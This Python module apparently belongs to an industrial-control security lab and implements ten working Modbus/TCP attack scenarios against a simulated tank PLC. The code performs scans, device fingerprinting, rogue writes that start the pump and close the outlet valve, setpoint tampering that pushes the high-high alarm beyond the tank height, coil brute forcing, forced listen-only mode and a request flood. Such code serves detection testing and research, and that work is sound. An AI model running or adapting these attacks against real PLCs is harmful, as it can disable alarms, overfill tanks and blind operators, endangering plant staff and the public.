"""Attack scenarios against the Modbus/TCP PLC of tank T-101 (see :mod:`lab.plant`).

Every scenario runs from the attacker's address (``site.attacker``): its sockets are bound there
(pymodbus clients with ``source_address``, plain TCP connects with ``local_addr``). Each is a real
Modbus master (pymodbus), speaks to the PLC's real server, and returns what it did:
``{"targets": [...], ...details}``. None takes more than about 12 s.

========================================  ==============  =======================================
scenario                                  techniques      on the wire
========================================  ==============  =======================================
``modbus_unit_id_scan``                   T0846           fc 3 to unit ids 0-247 and 255
``modbus_network_scan``                   T0846           TCP connects to 127.0.10.1-254 on ICS
                                                          and common ports; fc 17 on Modbus ones
``modbus_device_identification``          T0888           43/14 read codes 1-4, fc 17
``modbus_point_enumeration``              T0861           fc 1, 2, 3, 4, one address at a time
``modbus_rogue_master_write``             T0855, T0848    fc 6 mode manual, fc 5 pump on, fc 6
                                                          outlet valve 0 %
``modbus_setpoint_tampering``             T0836, T0878    fc 16: start/stop levels and the
                                                          high-high limit far beyond the tank
``modbus_coil_brute_force``               T0806           fc 5 on coils 0-15, then coils 0 and 2
                                                          toggled ~40 times a second
``modbus_restart_communications``         T0816           fc 8 sub-function 1, twice
``modbus_force_listen_only``              T0858, T0816    fc 8 sub-function 4, then 1
``modbus_request_flood``                  T0814           8 connections reading as fast as they
                                                          can for 4 s (thousands of requests/s)
========================================  ==============  =======================================
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import time
from collections import Counter
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.exceptions import ModbusException
from pymodbus.pdu import ModbusPDU

from lab.base import LabSite, scenario
from lab.plant import (
    COIL_OUTLET_CLOSE,
    COIL_PUMP,
    HOLDING_REGISTERS,
    HR_MODE,
    HR_SP_LOW,
    HR_VALVE_SP,
    INPUT_REGISTERS,
    IR_LEVEL_MM,
    MODE_MANUAL,
    TANK_HEIGHT_MM,
)


@dataclass(frozen=True)
class Timing:
    """How long the scenarios dwell, in seconds (tests shorten them with a smaller one)."""

    watch_s: float = 6.0  # rogue write, setpoint tampering: watching the process afterwards
    toggle_s: float = 5.0  # brute force: toggling coils 0 and 2
    restart_gap_s: float = 3.5  # between the two communications restarts
    listen_only_s: float = 7.0  # the PLC kept silent
    flood_s: float = 4.0  # the flood


TIMING = Timing()

#: the network the scan sweeps, and the ports it tries on every host (besides the site's own)
SCAN_NETWORK = "127.0.10.0/24"
SCAN_PORTS = (21, 22, 23, 80, 102, 443, 502, 2404, 4840, 8080, 20000, 44818)
MODBUS_PORTS = (502,)


def _client(site: LabSite, *, timeout: float = 1.0) -> AsyncModbusTcpClient:
    return AsyncModbusTcpClient(
        site.plc,
        port=site.modbus_port,
        source_address=(site.attacker, 0),
        name="attacker",
        timeout=timeout,
        retries=0,
        reconnect_delay=0,
    )


@contextlib.asynccontextmanager
async def _connected(site: LabSite, *, timeout: float = 1.0) -> AsyncIterator[AsyncModbusTcpClient]:
    """A pymodbus client connected from the attacker's address to the PLC."""
    client = _client(site, timeout=timeout)
    if not await client.connect():
        raise ConnectionError(f"cannot connect to the PLC at {site.plc}:{site.modbus_port}")
    try:
        yield client
    finally:
        client.close()


async def _try(
    client: AsyncModbusTcpClient, method: str, *args: Any, **kwargs: Any
) -> tuple[str, ModbusPDU | None]:
    """``("ok" | "exception N" | "no response", response)`` for one request, a pymodbus client
    method and its arguments; a connection the PLC (or anybody) closed is opened again first,
    as a tool does."""
    try:
        if not client.connected and not await client.connect():
            return "no connection", None
        response: ModbusPDU = await getattr(client, method)(*args, **kwargs)
    except ModbusException:
        return "no response", None
    if response.isError():
        return f"exception {getattr(response, 'exception_code', '?')}", response
    return "ok", response


async def _ok(
    what: str, client: AsyncModbusTcpClient, method: str, *args: Any, **kwargs: Any
) -> ModbusPDU:
    """The response, or an error naming what failed (the scenario's outcome)."""
    outcome, response = await _try(client, method, *args, **kwargs)
    if outcome != "ok" or response is None:
        raise RuntimeError(f"{what}: {outcome}")
    return response


async def _send_only(client: AsyncModbusTcpClient, method: str, *args: Any, **kwargs: Any) -> None:
    """Send a request that gets no answer (reconnecting first if the link was closed)."""
    if not client.connected and not await client.connect():
        raise ConnectionError("cannot connect to the PLC")
    await getattr(client, method)(*args, no_response_expected=True, **kwargs)


async def _level(client: AsyncModbusTcpClient, unit: int) -> int:
    response = await _ok(
        "read level", client, "read_input_registers", IR_LEVEL_MM, count=1, device_id=unit
    )
    return int(response.registers[0])


# -- discovery ----------------------------------------------------------------------------------


@scenario(
    "modbus_unit_id_scan",
    ("T0846",),
    "modbus",
    "Remote System Discovery: reads holding register 0 of every unit id 0-247 and 255 behind "
    "the PLC's address, one request each, to find which devices answer.",
)
async def unit_id_scan(site: LabSite) -> dict[str, Any]:
    units = [*range(248), 255]
    found: list[int] = []
    answers: Counter[str] = Counter()
    async with _connected(site, timeout=0.5) as client:
        for unit in units:
            outcome, _ = await _try(client, "read_holding_registers", 0, count=1, device_id=unit)
            answers[outcome] += 1
            if outcome == "ok":
                found.append(unit)
            if not client.connected:  # gave up after timeouts: reconnect and go on
                await client.connect()
    return {
        "targets": [site.plc],
        "unit_ids_probed": f"0-247,255 ({len(units)})",
        "requests": len(units),
        "units_found": found,
        "answers": dict(answers),
    }


@scenario(
    "modbus_network_scan",
    ("T0846",),
    "modbus",
    "Remote System Discovery: TCP connect scan of 127.0.10.1-254 on ICS and common ports "
    "(Modbus, S7, IEC 104, DNP3, EtherNet/IP, OPC UA, web, SSH, Telnet, FTP); every open Modbus "
    "port is asked for its server id (function 17).",
)
async def network_scan(site: LabSite) -> dict[str, Any]:
    hosts = [str(ip) for ip in ipaddress.ip_network(SCAN_NETWORK).hosts()]
    ports = sorted({*SCAN_PORTS, site.modbus_port, site.opcua_port})
    gate = asyncio.Semaphore(200)
    open_ports: dict[str, list[int]] = {}

    async def probe(host: str, port: int) -> None:
        async with gate:
            try:
                # a closed port answers at once (RST); the time allowed only matters to an open
                # port whose server shares a busy event loop (the lab's): 0.5 s missed the PLC
                _, writer = await asyncio.wait_for(
                    asyncio.open_connection(host, port, local_addr=(site.attacker, 0)), 3.0
                )
            except (OSError, TimeoutError):
                return
            open_ports.setdefault(host, []).append(port)
            writer.close()
            with contextlib.suppress(OSError):
                await writer.wait_closed()

    started = time.monotonic()
    await asyncio.gather(*(probe(host, port) for host in hosts for port in ports))
    modbus: dict[str, str] = {}
    for host, found in sorted(open_ports.items()):
        found.sort()
        for port in found:
            if port not in (*MODBUS_PORTS, site.modbus_port):
                continue
            client = AsyncModbusTcpClient(
                host,
                port=port,
                source_address=(site.attacker, 0),
                timeout=0.5,
                retries=0,
                reconnect_delay=0,
            )
            if await client.connect():
                outcome, response = await _try(
                    client, "report_device_id", device_id=site.modbus_unit
                )
                ident = getattr(response, "identifier", b"") if outcome == "ok" else b""
                modbus[f"{host}:{port}"] = ident.decode("latin-1") if ident else outcome
            client.close()
    return {
        "targets": sorted(open_ports, key=ipaddress.ip_address),
        "network": SCAN_NETWORK,
        "ports": ports,
        "connections_attempted": len(hosts) * len(ports),
        "open": {host: open_ports[host] for host in sorted(open_ports, key=ipaddress.ip_address)},
        "modbus_servers": modbus,
        "seconds": round(time.monotonic() - started, 2),
    }


@scenario(
    "modbus_device_identification",
    ("T0888",),
    "modbus",
    "Remote System Information Discovery: Read Device Identification (43/14) basic, regular, "
    "extended and each object, then Report Server ID (17): vendor, product, firmware revision.",
)
async def device_identification(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    objects: dict[int, str] = {}
    requests = 0
    async with _connected(site) as client:
        for read_code in (1, 2, 3):
            requests += 1
            outcome, response = await _try(
                client, "read_device_information", read_code=read_code, device_id=unit
            )
            if outcome == "ok" and response is not None:
                information: dict[int, Any] = getattr(response, "information", {})
                for oid, value in information.items():
                    objects[oid] = (
                        value.decode("latin-1") if isinstance(value, bytes) else str(value)
                    )
        for oid in (*range(7), 0x80):
            requests += 1
            await _try(
                client,
                "read_device_information",
                read_code=4,
                object_id=oid,
                device_id=unit,
            )
        requests += 1
        outcome, response = await _try(client, "report_device_id", device_id=unit)
        server_id = getattr(response, "identifier", b"") if outcome == "ok" else b""
    return {
        "targets": [site.plc],
        "requests": requests,
        "identity": {f"0x{oid:02x}": value for oid, value in sorted(objects.items())},
        "server_id": server_id.decode("latin-1", "replace") if server_id else None,
    }


@scenario(
    "modbus_point_enumeration",
    ("T0861",),
    "modbus",
    "Point & Tag Identification: reads coils, discrete inputs, holding and input registers one "
    "address at a time (0-49, then 100, 1000, 9999, 40000) to map which points exist.",
)
async def point_enumeration(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    addresses = [*range(50), 100, 1000, 9999, 40000]
    points: dict[str, dict[int, int]] = {}
    requests = 0
    async with _connected(site) as client:
        tables = {
            "coils": "read_coils",
            "discrete_inputs": "read_discrete_inputs",
            "holding_registers": "read_holding_registers",
            "input_registers": "read_input_registers",
        }
        for table, read in tables.items():
            found: dict[int, int] = {}
            for address in addresses:
                requests += 1
                outcome, response = await _try(client, read, address, count=1, device_id=unit)
                if outcome == "ok" and response is not None:
                    found[address] = int(
                        response.bits[0]
                        if table in ("coils", "discrete_inputs")
                        else response.registers[0]
                    )
            points[table] = found
    return {
        "targets": [site.plc],
        "requests": requests,
        "addresses_probed": "0-49,100,1000,9999,40000 in each table",
        "points": {table: sorted(found) for table, found in points.items()},
        "values": {table: {str(a): v for a, v in found.items()} for table, found in points.items()},
    }


# -- impair process control ---------------------------------------------------------------------


@scenario(
    "modbus_rogue_master_write",
    ("T0855", "T0848"),
    "modbus",
    "Unauthorized Command Message from a rogue master: from a host that never spoke to the PLC, "
    "switches the tank to manual (fc 6), starts the pump (fc 5) and closes the outlet valve "
    "(fc 6), then watches the level rise for 6 s.",
)
async def rogue_master_write(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    async with _connected(site) as client:
        before = await _ok(
            "read settings",
            client,
            "read_holding_registers",
            0,
            count=HOLDING_REGISTERS,
            device_id=unit,
        )
        level_before = await _level(client, unit)
        writes = [
            {"function": 6, "address": HR_MODE, "value": MODE_MANUAL, "what": "mode manual"},
            {"function": 5, "address": COIL_PUMP, "value": True, "what": "pump P-101 on"},
            {"function": 6, "address": HR_VALVE_SP, "value": 0, "what": "outlet valve FCV-101 0 %"},
        ]
        await _ok("write mode", client, "write_register", HR_MODE, MODE_MANUAL, device_id=unit)
        await _ok("write pump", client, "write_coil", COIL_PUMP, True, device_id=unit)
        await _ok("write valve", client, "write_register", HR_VALVE_SP, 0, device_id=unit)
        levels = []
        for _ in range(6):
            await asyncio.sleep(TIMING.watch_s / 6)
            levels.append(await _level(client, unit))
    return {
        "targets": [site.plc],
        "writes": writes,
        "settings_before": list(before.registers),
        "level_before_mm": level_before,
        "levels_after_mm": levels,
    }


@scenario(
    "modbus_setpoint_tampering",
    ("T0836", "T0878"),
    "modbus",
    "Modify Parameter: one Write Multiple Registers (fc 16) sets the pump start level to "
    "4,500 mm, the stop level to 60,000 mm and the high-high alarm and interlock limit to "
    "65,000 mm, all beyond the 4,000 mm tank, which the naive PLC accepts: the pump runs and "
    "will not stop, and the high-high alarm can no longer fire (Alarm Suppression).",
)
async def setpoint_tampering(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    values = [4500, 60000, 65000]  # start level, stop level, high-high limit (mm): HR 1-3
    async with _connected(site) as client:
        before = await _ok(
            "read settings",
            client,
            "read_holding_registers",
            0,
            count=HOLDING_REGISTERS,
            device_id=unit,
        )
        await _ok(
            "write setpoints",
            client,
            "write_registers",
            HR_SP_LOW,
            values,
            device_id=unit,
        )
        await asyncio.sleep(TIMING.watch_s / 12)
        after = await _ok(
            "read back",
            client,
            "read_holding_registers",
            0,
            count=HOLDING_REGISTERS,
            device_id=unit,
        )
        states = []
        for _ in range(5):
            await asyncio.sleep(TIMING.watch_s / 6)
            di = await _ok(
                "read status", client, "read_discrete_inputs", 0, count=2, device_id=unit
            )
            states.append(
                {"level_mm": await _level(client, unit), "pump_running": bool(di.bits[0])}
            )
    return {
        "targets": [site.plc],
        "writes": [{"function": 16, "address": HR_SP_LOW, "values": values}],
        "tank_height_mm": int(TANK_HEIGHT_MM),
        "settings_before": list(before.registers),
        "settings_after": list(after.registers),
        "process_after": states,
    }


@scenario(
    "modbus_coil_brute_force",
    ("T0806",),
    "modbus",
    "Brute Force I/O: writes every coil 0-15 on then off (fc 5), then toggles the pump command "
    "(coil 0) and the outlet shut-off (coil 2) about 40 times a second for 5 s, and puts them "
    "back as they were.",
)
async def coil_brute_force(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    writes = 0
    async with _connected(site) as client:
        original = await _ok("read coils", client, "read_coils", 0, count=16, device_id=unit)
        pump0, outlet0 = bool(original.bits[COIL_PUMP]), bool(original.bits[COIL_OUTLET_CLOSE])
        for coil in range(16):
            for value in (True, False):
                await _ok(
                    f"write coil {coil}",
                    client,
                    "write_coil",
                    coil,
                    value,
                    device_id=unit,
                )
                writes += 1
        state = False
        end = time.monotonic() + TIMING.toggle_s
        while time.monotonic() < end:
            state = not state
            await _ok("toggle pump", client, "write_coil", COIL_PUMP, state, device_id=unit)
            await _ok(
                "toggle outlet",
                client,
                "write_coil",
                COIL_OUTLET_CLOSE,
                state,
                device_id=unit,
            )
            writes += 2
            await asyncio.sleep(0.025)
        await _ok("restore pump", client, "write_coil", COIL_PUMP, pump0, device_id=unit)
        await _ok(
            "restore outlet",
            client,
            "write_coil",
            COIL_OUTLET_CLOSE,
            outlet0,
            device_id=unit,
        )
        writes += 2
    return {
        "targets": [site.plc],
        "coils": list(range(16)),
        "toggled": [COIL_PUMP, COIL_OUTLET_CLOSE],
        "writes": writes,
        "restored": {"coil_0": pump0, "coil_2": outlet0},
    }


# -- inhibit response function ------------------------------------------------------------------


@scenario(
    "modbus_restart_communications",
    ("T0816",),
    "modbus",
    "Device Restart/Shutdown: Diagnostics (fc 8) sub-function 1, Restart Communications Option, "
    "twice 4 s apart (the second also clearing the event log); the PLC answers, then closes every "
    "connection, the HMI's too.",
)
async def restart_communications(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    answers = []
    for clear_log in (False, True):
        async with _connected(site) as client:
            outcome, _ = await _try(client, "diag_restart_communication", clear_log, device_id=unit)
            answers.append(outcome)
            await asyncio.sleep(0.5)
            dropped = not client.connected
        answers.append("connection closed by the PLC" if dropped else "connection kept")
        await asyncio.sleep(TIMING.restart_gap_s)
    return {
        "targets": [site.plc],
        "requests": [
            {"function": 8, "sub_function": 1, "data": 0x0000},
            {"function": 8, "sub_function": 1, "data": 0xFF00},
        ],
        "answers": answers,
    }


@scenario(
    "modbus_force_listen_only",
    ("T0858", "T0816"),
    "modbus",
    "Change Operating Mode: Diagnostics (fc 8) sub-function 4, Force Listen Only Mode: the PLC "
    "stops answering every master (the HMI loses its view) for 8 s, until the attacker sends "
    "sub-function 1, Restart Communications Option, which brings it back.",
)
async def force_listen_only(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    checks: dict[str, str] = {}
    async with _connected(site, timeout=1.0) as client:
        checks["before"], _ = await _try(
            client, "read_holding_registers", 0, count=1, device_id=unit
        )
        await _send_only(client, "diag_force_listen_only", device_id=unit)
        try:
            await asyncio.sleep(0.3)
            checks["in listen-only"], _ = await _try(
                client, "read_holding_registers", 0, count=1, device_id=unit
            )
            await asyncio.sleep(TIMING.listen_only_s)
        finally:
            await _send_only(client, "diag_restart_communication", False, device_id=unit)
        await asyncio.sleep(0.3)
        checks["after restart"], _ = await _try(
            client, "read_holding_registers", 0, count=1, device_id=unit
        )
    return {
        "targets": [site.plc],
        "requests": [
            {"function": 8, "sub_function": 4, "data": 0x0000},
            {"function": 8, "sub_function": 1, "data": 0x0000},
        ],
        "checks": checks,
    }


@scenario(
    "modbus_request_flood",
    ("T0814",),
    "modbus",
    "Denial of Service: 8 connections read holding and input registers back to back as fast as "
    "the PLC answers, for 4 s (thousands of requests a second).",
)
async def request_flood(site: LabSite) -> dict[str, Any]:
    unit = site.modbus_unit
    connections, seconds = 8, TIMING.flood_s
    counts: Counter[str] = Counter()
    clients = [_client(site, timeout=1.0) for _ in range(connections)]

    async def hammer(client: AsyncModbusTcpClient, end: float) -> None:
        i = 0
        while time.monotonic() < end:
            if not client.connected and not await client.connect():
                counts["connect failed"] += 1
                await asyncio.sleep(0.1)
                continue
            table = "read_input_registers" if i % 2 else "read_holding_registers"
            count = INPUT_REGISTERS if i % 2 else HOLDING_REGISTERS
            counts["requests"] += 1
            outcome, _ = await _try(client, table, 0, count=count, device_id=unit)
            counts[outcome] += 1
            i += 1

    try:
        connected = await asyncio.gather(*(client.connect() for client in clients))
        if not any(connected):
            raise ConnectionError(f"cannot connect to the PLC at {site.plc}:{site.modbus_port}")
        started = time.monotonic()
        await asyncio.gather(*(hammer(client, started + seconds) for client in clients))
        elapsed = time.monotonic() - started
    finally:
        for client in clients:
            client.close()
    return {
        "targets": [site.plc],
        "connections": connections,
        "seconds": round(elapsed, 2),
        "requests": counts["requests"],
        "answered": counts["ok"],
        "outcomes": dict(counts),
        "requests_per_s": round(counts["requests"] / elapsed),
    }
